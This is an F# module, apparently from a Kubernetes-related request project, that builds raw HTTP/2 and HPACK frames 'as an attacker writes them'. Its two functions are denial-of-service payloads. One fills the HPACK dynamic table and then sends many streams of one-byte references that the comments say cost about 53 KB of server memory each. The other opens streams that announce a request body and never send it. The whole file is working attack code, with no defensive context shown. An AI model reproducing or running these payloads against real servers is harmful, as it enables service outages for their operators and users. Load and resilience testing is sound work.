/// HTTP/2 (RFC 9113) and HPACK (RFC 7541) as an attacker writes them.
module K8sReq.Attack.Http2Frames

open System.Text

let preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"B

let frame (kind: byte) (flags: byte) (stream: int) (payload: byte[]) =
    Array.append
        [|
            byte (payload.Length >>> 16)
            byte (payload.Length >>> 8)
            byte payload.Length
            kind
            flags
            byte (stream >>> 24)
            byte (stream >>> 16)
            byte (stream >>> 8)
            byte stream
        |]
        payload

let settings = frame 4uy 0uy 0 [||]

let private text (value: string) =
    let bytes = Encoding.Latin1.GetBytes value

    let length =
        if bytes.Length < 127 then
            [| byte bytes.Length |]
        else
            let rest = bytes.Length - 127

            [|
                127uy
                byte (rest &&& 127) ||| (if rest > 127 then 128uy else 0uy)
                if rest > 127 then
                    byte (rest >>> 7)
            |]

    Array.append length bytes

/// A literal field, not indexed.
let field (name: string, value: string) =
    Array.concat [ [| 0uy |]; text name; text value ]

/// A literal field that becomes the newest entry of the dynamic table.
let indexed (name: string, value: string) =
    Array.concat [ [| 64uy |]; text name; text value ]

/// The entry of the dynamic table that is this old, 0 for the newest.
let reference (age: int) = [| byte (128 + 62 + age) |]

let private requestOf (method: string) (host: string) =
    [ ":method", method; ":scheme", "http"; ":path", "/"; ":authority", host ]
    |> List.map field
    |> Array.concat

/// HEADERS that fill the dynamic table with 29 entries, and then heads that name nothing but those, one byte a field: each
/// has 53 KB in the server's memory. Bodies are never sent.
let byReference (host: string) (streams: int) : byte[] =
    // 32 bytes of each entry are its own (RFC 7541 section 4.1); the table has 4,096.
    let entries = [ for n in 10..38 -> $"x{n}", System.String('v', 106) ]

    let filling =
        Array.append (requestOf "POST" host) (entries |> List.map indexed |> Array.concat)

    let naming =
        Array.append (requestOf "POST" host) (Array.concat [ for n in 0..479 -> reference (n % 29) ])

    Array.concat [
        preface
        settings
        frame 1uy 4uy 1 filling
        for n in 1 .. streams - 1 do
            frame 1uy 4uy (2 * n + 1) naming
    ]

/// Requests that announce a body of this length and send none.
let announcing (host: string) (streams: int) (length: int) : byte[] =
    Array.concat [
        preface
        settings
        for n in 0 .. streams - 1 do
            frame
                1uy
                4uy
                (2 * n + 1)
                (Array.append (requestOf "POST" host) (field ("content-length", string length)))
    ]
